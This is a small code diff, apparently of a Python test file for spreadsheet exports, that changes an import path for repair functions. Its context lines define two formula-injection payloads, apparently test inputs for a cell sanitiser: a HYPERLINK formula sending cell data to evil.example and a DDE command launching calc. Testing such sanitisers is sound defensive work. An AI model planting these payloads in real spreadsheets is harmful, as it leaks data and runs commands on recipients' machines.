@@ -12,7 +12,7 @@ from openpyxl import load_workbook
 
 from common.downloads import csv_cell
 from recording.models import Vendor
-from recording.repairs import repair_report_fault, repair_ship
+from recording.services.repairs import repair_report_fault, repair_ship
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
 CMD = "+1+cmd|' /C calc'!A0"
